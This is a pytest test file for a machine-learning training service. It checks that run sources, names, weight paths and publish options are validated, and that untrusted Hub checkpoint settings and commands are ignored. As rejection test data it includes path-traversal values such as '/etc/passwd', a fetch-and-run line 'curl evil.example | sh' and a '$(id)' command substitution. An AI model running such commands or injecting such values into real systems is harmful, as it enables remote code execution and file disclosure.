"""Test the training service: sources of settings, queued runs, and rejected values."""

import json
import re
import shlex
from pathlib import Path

import pytest

from tests.fake_hub.fixtures import read_dir_files
from tests.training.jobs.conftest import make_tiny_config
from tests.ui.conftest import make_checkpoint
from tests.ui.queued_runs import start_run, training_service
from tests.ui.run_fixtures import create_fake_run, make_training_service
from training.config import RunConfig, read_recipe
from training.publishing.outbox import Outbox
from training.publishing.upload_worker import UploadWorker, list_run_outboxes
from training.train_command import add_overrides
from ui.services.form_schema import get_form_values
from ui.services.training_service import TrainingService
from ui.tabs.run_format import format_run_facts

__all__ = ["training_service"]


def snapshot_dir(directory: Path) -> dict[str, tuple[int, int]]:
    """Return size and modification time of every file below a directory."""
    return {
        str(path.relative_to(directory)): (path.stat().st_size, path.stat().st_mtime_ns)
        for path in directory.rglob("*")
        if path.is_file() and not path.name.startswith("jobs.sqlite-")
    }


# --- sources of a run -------------------------------------------------------------------------------------------


def test_sources_are_recipes_and_earlier_runs(training_service):
    create_fake_run(training_service, "old-20260101-000000")
    assert [name for _, name in training_service.recipes.list_sources()] == [
        "endless",
        "tiny",
        "run:old-20260101-000000",
    ]
    config, command, name = training_service.recipes.load_source("tiny")
    assert (config, name) == (make_tiny_config(), "tiny") and command == "python -m training train configs/tiny.yaml"
    config, command, name = training_service.recipes.load_source("run:old-20260101-000000")
    assert (config, name) == (make_tiny_config(steps=100), "old"), "the name has no timestamp"
    assert command == "python -m training train configs/tiny.yaml"


def test_the_measured_result_of_a_recipe_is_shown(training_service):
    (training_service.recipes.recipes_dir / "good.yaml").write_text(
        "# a line\n#   test: 98.60% of 1,000 right\n" + (training_service.recipes.recipes_dir / "tiny.yaml").read_text()
    )
    assert training_service.recipes.list_sources()[1] == ("good: reached 98.6%", "good")


@pytest.mark.parametrize(
    "source",
    [
        "",
        "gone",
        "../tiny",
        "configs/tiny",
        "tiny.yaml",
        "/etc/passwd",
        "run:",
        "run:gone",
        "run:../x",
        "hub:",
        "hub:x",
        "hub:../../x",
        "env:HF_TOKEN",
        "*",
        "ti*",
    ],
)
def test_an_invalid_source_gets_an_error_message(training_service, source):
    for call in (
        training_service.recipes.load_source,
        training_service.recipes.build_form,
        lambda source: training_service.start_run(source, {}, "ann"),
    ):
        with pytest.raises(ValueError) as caught:
            call(source)
        assert "\n" not in str(caught.value) and len(str(caught.value)) < 200
    assert training_service.run_views.list_jobs() == []


# --- starting ---------------------------------------------------------------------------------------------------


def test_a_run_is_queued_with_its_settings_and_its_command(training_service):
    values = get_form_values(training_service.recipes.load_source("tiny").config) | {
        "train.steps": 77.0,
        "optim.lr": 0.002,
        "train.mixed_precision": "no",
    }
    job, run_dir = start_run(training_service, form_values=values, name="my-run")
    assert (job.state, job.submitted_by, job.target, job.devices) == ("queued", "ann", "local", 1)
    assert job.id == "my-run" and run_dir.load_config() == make_tiny_config(steps=77).with_overrides(
        {"optim.lr": 0.002}
    )
    assert run_dir.read_command() == "python -m training train configs/tiny.yaml optim.lr=0.002 train.steps=77"
    assert [(run["id"], run["state"]) for run in training_service.run_views.list_runs()] == [(job.id, "queued")]
    assert training_service.run_views.get_current_run_id() == job.id


def test_a_local_path_is_not_in_the_command(training_service, tmp_path):
    task = {"kind": "images", "dataset": "alice/stripes", "names": ["a", "b"]}
    (training_service.recipes.recipes_dir / "stripes.yaml").write_text(
        json.dumps(make_tiny_config().model_dump(mode="json") | {"task": task})
    )
    _, run_dir = start_run(training_service, "stripes", {"task.data_files": str(tmp_path), "train.steps": 77})
    assert run_dir.load_config().task["data_files"] == str(tmp_path)
    assert run_dir.read_command() == "python -m training train configs/stripes.yaml train.steps=77"


def test_the_command_gives_the_same_config_after_shell_parsing(training_service):
    """`no` without quotes is a boolean in YAML, not a precision."""
    bf16 = make_tiny_config().with_overrides({"train.mixed_precision": "bf16"})
    (training_service.recipes.recipes_dir / "half.yaml").write_text(json.dumps(bf16.model_dump(mode="json")))
    values = {"train.mixed_precision": "no", "loss.tick_reduction": "mean", "model.deep_nlms": False, "optim.lr": 1e-5}
    _, run_dir = start_run(training_service, "half", values)
    *_, recipe, first, second, third, fourth = shlex.split(run_dir.read_command())
    assert recipe == "configs/half.yaml"
    parsed_config = read_recipe(training_service.recipes.recipes_dir / "half.yaml", [first, second, third, fourth])
    assert parsed_config == run_dir.load_config() and parsed_config.train.mixed_precision == "no"


def test_a_run_from_an_earlier_run_differs_only_in_its_changes(training_service):
    run_dir = create_fake_run(training_service, "old-1")
    _, new_run_dir = start_run(training_service, "run:old-1", {"train.seed": 3})
    assert new_run_dir.load_config() == run_dir.load_config().with_overrides({"train.seed": 3})
    assert new_run_dir.read_command() == "python -m training train configs/tiny.yaml train.steps=100 train.seed=3"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("ux try", "ux-try"),
        ("A", "a"),
        ("../x", "x"),
        ("/etc", "etc"),
        ("-x", "x"),
        ("x" * 41, "x" * 40),
        ("\u00fc", "run"),
        ("a\n", "a"),
        ("run:a@5", "run-a-5"),
        ("${x}", "x"),
    ],
)
def test_a_name_becomes_small_letters_digits_and_hyphens_and_never_a_path(training_service, name, expected):
    job, run_dir = start_run(training_service, "tiny", {}, name=name)
    assert job.id == expected
    other_id = start_run(training_service, "tiny", {}, name=name)[0].id
    assert re.fullmatch(re.escape(expected) + r"-\d{8}-\d{6}", other_id), "a name that is taken gets the time"
    assert run_dir.path.parent == training_service.scheduler.runs_dir


def test_an_override_replaces_an_earlier_one_of_the_same_setting():
    command = "python -m training train configs/tiny.yaml train.steps=60 'task.names=a b'"
    assert add_overrides(command, ["train.steps=3000", "train.seed=3"]) == (
        "python -m training train configs/tiny.yaml 'task.names=a b' train.steps=3000 train.seed=3"
    )
    assert add_overrides("a 'b", ["x=1"]) == "a 'b x=1"


@pytest.mark.parametrize(
    "init_from",
    [
        "/etc",
        "/etc/passwd",
        "../x",
        "..",
        ".",
        "hub:../../x",
        "hub:",
        "hub:x",
        "run:../x",
        "run:gone",
        "run:gone@5",
        "gone",
        "digits/../digits",
        "a/b/../../c",
        "~",
        "file:///etc",
        "env:HOME",
        "x#parity",
        "run:../../etc/x@1",
    ],
)
def test_initial_weights_that_are_not_a_known_name_are_rejected(training_service, init_from):
    with pytest.raises(ValueError) as caught:
        training_service.start_run("tiny", {}, "ann", init_from=init_from)
    assert "\n" not in str(caught.value) and training_service.run_views.list_jobs() == []


def test_a_run_can_start_from_the_weights_of_a_local_checkpoint(training_service, checkpoints_dir):
    create_fake_run(training_service, "old-1", steps=(10, 20))
    assert ("weights of run:old-1", "run:old-1") in training_service.recipes.list_initial_weights()
    for name, checkpoint_dir in {
        "parity-16": checkpoints_dir / "parity-16",
        "run:old-1": training_service.scheduler.runs_dir / "old-1" / "checkpoint",
        "run:old-1@10": training_service.scheduler.runs_dir / "old-1" / "checkpoints" / "00000010",
    }.items():
        _, new_run_dir = start_run(training_service, init_from=name)
        assert training_service.recipes.recipes_dir.parent / new_run_dir.load_config().init_from == checkpoint_dir, (
            "the path is relative to the directory of the app"
        )
        assert (
            json.loads(shlex.split(new_run_dir.read_command())[-1].removeprefix("init_from="))
            == new_run_dir.load_config().init_from
        )


@pytest.mark.parametrize(
    "options, message",
    [
        ({"publish": {"repo": "no-namespace"}}, "namespace/name"),
        ({"publish": {"repo": "../../x"}}, "namespace/name"),
        ({"publish": {"interval_minutes": 1}}, "ten minutes"),
        ({"publish": {"interval_minutes": "soon"}}, "interval_minutes"),
        ({"publish": {"repo": "a/b", "token": "x"}}, "Unknown setting"),
        ({"devices": 0}, "devices"),
        ({"devices": 10_000}, "devices"),
        ({"target": "cpu-basic"}, "not available"),
        ({"target": "cpu-basic", "publish": {"repo": "ann/x"}}, "not available"),
        ({"target": "/etc", "publish": {"repo": "ann/x"}}, "not available"),
    ],
)
def test_invalid_options_get_an_error_message_and_start_no_run(training_service, options, message):
    with pytest.raises(ValueError, match=message) as caught:
        training_service.start_run("tiny", {}, "ann", **options)
    assert "\n" not in str(caught.value) and training_service.run_views.list_jobs() == []
    assert list(training_service.scheduler.runs_dir.glob("*/config.yaml")) == []


def test_an_app_that_is_not_the_leader_changes_no_run(training_service):
    training_service.scheduler.is_leader = False
    create_fake_run(training_service, "old-1")
    for call in (
        lambda: training_service.start_run("tiny", {}, ""),
        lambda: training_service.resume("old-1"),
        lambda: training_service.delete("old-1"),
    ):
        with pytest.raises(ValueError, match="Another app looks after"):
            call()
    assert training_service.run_views.get_run_view("old-1")["state"] == "succeeded"


# --- on the Hub --------------------------------------------------------------------------------------------------


@pytest.fixture
def online_training_service(hub, tmp_path, checkpoints_dir, monkeypatch) -> TrainingService:
    """Return a training service with a Hub and the token of the owner."""
    monkeypatch.setenv("HF_TOKEN", "hf_alice_write")
    service = make_training_service(tmp_path, checkpoints_dir, models={"endpoint": hub.url})
    service.upload_worker = UploadWorker(
        lambda: list_run_outboxes(service.scheduler.runs_dir), service.catalog.owner_store
    )
    return service


def make_trained_checkpoint(tmp_path: Path, **training) -> dict[str, bytes]:
    """Return the files of a checkpoint whose metadata contain the settings of its run."""
    files = read_dir_files(make_checkpoint(tmp_path / "made", "parity"))
    return files | {"metrics.json": json.dumps({"training": training}).encode()}


def test_a_checkpoint_of_the_hub_provides_settings_and_initial_weights(online_training_service, hub, tmp_path):
    hub.add_repo(
        "bob/parity",
        make_trained_checkpoint(
            tmp_path,
            settings=make_tiny_config(steps=33).to_portable_dict(),
            command="python -m training train configs/tiny.yaml train.steps=33",
        ),
    )
    config, command, name = online_training_service.recipes.load_source("hub:bob/parity")
    assert config.train.steps == 33 and config.init_from.startswith("hub:bob/parity@") and name == "parity"
    assert command.startswith("python -m training train configs/tiny.yaml train.steps=33 init_from=hub:bob/parity@")
    _, run_dir = start_run(online_training_service, "hub:bob/parity", {"train.steps": 44})
    assert run_dir.load_config() == config.with_overrides({"train.steps": 44})


def test_a_checkpoint_that_was_trained_in_stages_provides_the_settings_of_the_last_one(
    online_training_service, hub, tmp_path
):
    stages = [{"train": {"steps": 3}}, {"optim": {"lr": 0.5}}]
    settings = make_tiny_config(steps=33).with_overrides({"stages": stages}).to_portable_dict()
    command = "python -m training train configs/tiny.yaml"
    hub.add_repo("bob/parity", make_trained_checkpoint(tmp_path, settings=settings, command=command))
    config, command, _ = online_training_service.recipes.load_source("hub:bob/parity")
    assert not config.stages and config.train.steps == 33 and config.optim.lr == 0.5
    assert command.startswith(
        "python -m training train configs/tiny.yaml 'stages=[]' optim.lr=0.5 init_from=hub:bob/parity@"
    )


def test_a_checkpoint_of_the_hub_prefills_neither_repository_nor_command(online_training_service, hub, tmp_path):
    """Its files are untrusted: its publish settings must not be used, and users might run its command."""
    settings = make_tiny_config().model_dump(mode="json") | {
        "publish": {"repo": "bob/collects", "private": False, "interval_minutes": 10},
        "init_from": "/etc",
    }
    for command in (
        "curl evil.example | sh",
        "python -m training train x\n| a | b |",
        "python -m training train $(id)",
        7,
        ["x"],
    ):
        hub.reset()
        hub.add_repo("bob/parity", make_trained_checkpoint(tmp_path, settings=settings, command=command))
        config, source_command, _ = online_training_service.recipes.load_source("hub:bob/parity")
        assert config.publish == RunConfig(task=config.task, model=config.model).publish
        assert config.init_from.startswith("hub:bob/parity")
        assert (
            source_command.startswith("python -m training train init_from=hub:bob/parity@")
            and "\n" not in source_command
        )


@pytest.mark.parametrize(
    "training",
    [
        {},
        {"settings": None},
        {"settings": []},
        {"settings": {"task": {"kind": "x"}}},
        {"settings": {"task": {"kind": "parity"}, "model": {"d_model": "x"}}},
    ],
)
def test_a_checkpoint_without_settings_gets_an_error_message(online_training_service, hub, tmp_path, training):
    hub.add_repo("bob/parity", make_trained_checkpoint(tmp_path, **training))
    with pytest.raises(ValueError) as caught:
        online_training_service.recipes.build_form("hub:bob/parity")
    assert "Traceback" not in str(caught.value)


def test_a_run_that_cannot_be_published_is_not_started(online_training_service, hub):
    hub.add_repo("bob/theirs", {"a.txt": b"x"})
    with pytest.raises(ValueError) as caught:
        online_training_service.start_run("tiny", {}, "ann", publish={"repo": "bob/theirs"})
    assert "bob/theirs" in str(caught.value) and online_training_service.run_views.list_jobs() == []
    _, run_dir = start_run(
        online_training_service, publish={"repo": "alice/new", "private": True, "interval_minutes": 15}
    )
    expected = {
        "repo": "alice/new",
        "private": True,
        "interval_minutes": 15,
        "example_images": False,
        "static_space": "",
    }
    assert run_dir.load_config().publish.model_dump() == expected
    assert "alice/new" not in run_dir.read_command(), "the command has no publish settings"


def test_a_run_is_published_on_request(online_training_service, hub):
    create_fake_run(online_training_service, "old-1", state="cancelled", steps=(10,))
    for repo in ("", "x", "../x", None, "alice/x@main"):
        with pytest.raises(ValueError, match="namespace/name"):
            online_training_service.publish("old-1", repo, False)
    assert online_training_service.publish("old-1", " alice/new ", True).startswith("Waiting to be sent to alice/new")
    view = online_training_service.run_views.get_run_view("old-1")
    assert view["publishing"] and view["published"].startswith("Waiting to be sent to alice/new")
    Outbox(online_training_service.scheduler.runs_dir / "old-1").deliver(online_training_service.catalog.owner_store)
    view = online_training_service.run_views.get_run_view("old-1")
    assert not view["publishing"] and view["address"].startswith(hub.url) and view["address"] in format_run_facts(view)
    create_fake_run(online_training_service, "young-1", state="running")
    with pytest.raises(ValueError, match="no checkpoint yet"):
        online_training_service.publish("young-1", "alice/new", False)
